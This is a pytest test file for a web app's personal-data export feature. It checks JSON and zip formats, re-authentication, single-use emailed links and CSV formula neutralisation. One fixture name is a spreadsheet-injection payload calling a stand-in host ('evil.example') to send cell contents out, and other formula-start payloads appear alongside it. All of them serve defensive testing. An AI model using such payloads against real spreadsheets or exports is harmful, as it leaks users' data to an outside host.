"""Downloading everything: JSON with a versioned schema, or a zip with CSVs and a README."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import timedelta

import pytest

from preference_centre import tokens
from preference_centre.data_rights import registry
from preference_centre.data_rights.export import neutralise
from preference_centre.extensions import db
from preference_centre.messaging import deliver_due
from preference_centre.models import Order, RightsRequest
from tests.helpers_messaging import body_text


def test_json_export_has_the_schema_version_and_every_category(
        app, client, auth, make_person, make_full_person):
    person = make_full_person(orders=3)
    auth.login(person)
    response = client.get("/account/data/export")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.is_streamed
    document = json.loads(response.get_data(as_text=True))
    assert document["version"] == 1 and document["schema"].endswith("/export/schema#v1")
    assert set(document["categories"]) == {c.key for c in registry.CATEGORIES}
    orders = document["categories"]["orders"]["records"]["orders"]
    assert len(orders) == 3 and orders[0]["ordered_at"] > orders[-1]["ordered_at"]
    contact = document["categories"]["contact"]["records"]["contact"][0]
    assert contact["email"] == person.email and contact["phone"] == "07700 900123"
    credentials = document["categories"]["credentials"]["records"]["credentials"][0]
    assert credentials == {"password": True, "security_question": True,
                           "security_answer": True}
    assert "pbkdf2" not in response.get_data(as_text=True)
    assert "scrypt" not in response.get_data(as_text=True)


def test_zip_export_has_json_readme_and_neutralised_csv(app, client, auth, make_person):
    person = make_person(name='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    db.session.add(Order(person_id=person.id, reference="R-1", product="+SUM(1,2)",
                         amount_pence=100))
    db.session.commit()
    auth.login(person)
    response = client.get("/account/data/export?format=zip")
    assert response.status_code == 200
    assert response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
    names = set(archive.namelist())
    assert {"README.txt", "data.json", "contact.csv", "orders.csv",
            "preferences-consent_events.csv"} <= names
    assert json.loads(archive.read("data.json"))["version"] == 1
    rows = list(csv.reader(io.StringIO(archive.read("contact.csv").decode())))
    name_at = rows[0].index("Name")
    assert rows[1][name_at].startswith("'=HYPERLINK(")
    orders = list(csv.reader(io.StringIO(archive.read("orders.csv").decode())))
    assert orders[1][orders[0].index("Product or service")] == "'+SUM(1,2)"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_neutralised(value):
    assert neutralise(value) == "'" + value
    assert neutralise("Plain") == "Plain" and neutralise(-1) == -1


def test_stale_login_must_reauthenticate_before_export(app, client, auth, make_person):
    person = make_person()
    auth.login(person, minutes_ago=60)
    response = client.get("/account/data/export?format=zip")
    assert response.status_code == 302 and "/reauth" in response.headers["Location"]


def test_an_unknown_format_is_a_clear_400(app, client, auth, make_person):
    auth.login(make_person())
    assert client.get("/account/data/export?format=xlsx").status_code == 400


def test_export_schema_is_documented(app, client):
    page = client.get("/account/data/export/schema").get_data(as_text=True)
    assert "version 1" in page and "consent_events" in page


# People without an account ask from their /p/ page ------------------------------------------

def _emailed_link(mailbox, address: str) -> str:
    deliver_due()
    text = body_text(mailbox.last_to(address))
    return re.search(r"http://\S+/data/export/\S+", text).group(0)


def test_export_by_emailed_single_use_link(app, client, make_person, mailbox, frozen_clock):
    person = make_person(email="nina@example.com", password=None)
    token = tokens.make_preference_token(person.id)
    assert client.get(f"/p/{token}/export-request").status_code == 200
    response = client.post(f"/p/{token}/export-request")
    assert response.status_code == 200 and b"n***@e***.com" in response.data
    link = _emailed_link(mailbox, "nina@example.com")
    path = link.split("127.0.0.1:5000", 1)[1]

    assert client.get(path).status_code == 200  # a page with a button; nothing used up
    download = client.post(path, data={"format": "json"})
    assert download.status_code == 200
    assert download.headers["Cache-Control"] == "no-store"
    assert json.loads(download.get_data(as_text=True))["categories"]["contact"]
    request_row = db.session.execute(db.select(RightsRequest)).scalar_one()
    assert request_row.kind == "export" and request_row.status == "completed"
    assert client.post(path, data={"format": "json"}).status_code == 400


def test_an_emailed_link_expires_after_export_link_days(app, client, make_person, mailbox,
                                                        frozen_clock):
    person = make_person(email="olu@example.com", password=None)
    client.post(f"/p/{tokens.make_preference_token(person.id)}/export-request")
    path = _emailed_link(mailbox, "olu@example.com").split("127.0.0.1:5000", 1)[1]
    frozen_clock.advance(days=7, hours=1)
    assert client.post(path, data={"format": "zip"}).status_code == 400


def test_a_bad_preferences_token_cannot_request_an_export(app, client, make_person):
    person = make_person()
    bad = tokens.make_token("export_download", {"p": person.id})  # another purpose
    assert client.post(f"/p/{bad}/export-request").status_code == 400
    assert client.post("/p/garbage/export-request").status_code == 400
    assert db.session.execute(db.select(RightsRequest)).first() is None


def test_a_tampered_download_link_is_refused(app, client, make_person):
    person = make_person()
    forged = tokens.make_token("export_download", {"r": 1, "f": "0" * 16})
    assert client.get(f"/data/export/{forged}").status_code == 400
    assert client.get("/data/export/not-a-token").status_code == 400
    assert person.id


def test_repeat_requests_within_an_hour_send_one_link(app, client, make_person, mailbox):
    person = make_person(email="pat@example.com", password=None)
    token = tokens.make_preference_token(person.id)
    client.post(f"/p/{token}/export-request")
    client.post(f"/p/{token}/export-request")
    assert db.session.execute(db.select(db.func.count()).select_from(RightsRequest)
                              ).scalar() == 1
    assert timedelta(days=1)


def test_the_same_transaction_can_still_write_after_an_export(
        app, make_person, engine_name, make_full_person):
    if engine_name != "postgresql":
        pytest.skip("only PostgreSQL streams through a server-side cursor")
    from preference_centre.data_rights.export import iter_json

    person = make_full_person()
    exported = json.loads("".join(iter_json(person.id)))
    assert exported["categories"]
    db.session.add_all([Order(person_id=person.id, reference=f"after-export-{n}", product="Tea",
                              amount_pence=100) for n in range(2)])
    db.session.commit()
    assert db.session.scalar(db.select(db.func.count()).select_from(Order)
                             .where(Order.reference.like("after-export-%"))) == 2


def test_a_spent_download_link_says_already_downloaded_and_how_to_ask_again(
        app, client, make_person, mailbox):
    person = make_person(email="pia@example.com", password=None)
    client.post(f"/p/{tokens.make_preference_token(person.id)}/export-request")
    path = _emailed_link(mailbox, "pia@example.com").split("127.0.0.1:5000", 1)[1]
    page = client.get(path)
    # The page with the button is never cached: back or reload asks again.
    assert page.headers["Cache-Control"] == "no-store"
    client.post(path, data={"format": "json"})
    again = client.get(path).get_data(as_text=True).split("<main", 1)[1].split("</main>")[0]
    assert "Already downloaded" in again
    assert ">Download</button>" not in again
    assert 'href="/p/new-link"' in again and "log in" not in again.lower()
